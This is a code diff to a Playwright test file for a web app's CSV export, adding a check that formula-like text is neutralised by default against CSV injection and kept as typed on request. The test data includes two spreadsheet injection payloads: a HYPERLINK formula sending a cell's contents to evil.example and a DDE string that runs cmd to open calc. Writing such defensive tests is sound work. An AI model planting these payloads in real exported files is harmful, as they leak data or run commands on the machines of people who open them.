@@ -1,11 +1,13 @@
 import { readFileSync } from 'node:fs';
 import { expect, test, type Page } from '@playwright/test';
-import { openFresh } from './helpers';
+import { parseCsv } from '../../src/export/csv';
+import { addItems, createBlankProject, openFresh, waitSaved } from './helpers';
 
 async function downloadCsv(page: Page, name: string | RegExp) {
   const [download] = await Promise.all([
     page.waitForEvent('download'),
-    page.getByRole('button', { name }).click(),
+    // A table's menu toggle names the table too; it is not a download.
+    page.getByRole('button', { name }).and(page.locator(':not(.csv-toggle)')).click(),
   ]);
   return { name: download.suggestedFilename(), bytes: readFileSync(await download.path()) };
 }
@@ -45,4 +47,35 @@ test('a model’s curves download as CSV with one row per point', async ({ page 
   expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   expect(lines[0]!.replace(/^\uFEFF/, '')).toBe('Service level (%),Safety stock,Cost,Revenue,Profit');
   expect(lines).toHaveLength(202);
+});
+
+test('CSV neutralises formula-like text by default (OWASP), and the menu offers it exactly as typed', async ({
+  page,
+}) => {
+  await createBlankProject(page);
+  const payload = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+  await addItems(page, 'Strengths', [payload, "-2+3+cmd|' /C calc'!A0", 'Plain text']);
+  await waitSaved(page);
+  const safe = await downloadCsv(
+    page,
+    'Download the SWOT items with weights and ratings as CSV (opens in Excel)',
+  );
+  const safeRows = parseCsv(safe.bytes.toString('utf8'));
+  expect(safeRows.slice(1).map((r) => r[2])).toEqual([
+    `'${payload}`,
+    "'-2+3+cmd|' /C calc'!A0",
+    'Plain text',
+  ]);
+
+  const toggle = page.getByRole('button', {
+    name: 'CSV options for the SWOT items with weights and ratings',
+  });
+  await toggle.click();
+  await expect(toggle).toHaveAttribute('aria-expanded', 'true');
+  const typed = await downloadCsv(page, /as CSV exactly as typed/);
+  const typedRows = parseCsv(typed.bytes.toString('utf8'));
+  expect(typedRows.slice(1).map((r) => r[2])).toEqual([payload, "-2+3+cmd|' /C calc'!A0", 'Plain text']);
+  // The menu closes after the choice and gives focus back to its button.
+  await expect(toggle).toBeFocused();
+  await expect(toggle).toHaveAttribute('aria-expanded', 'false');
 });
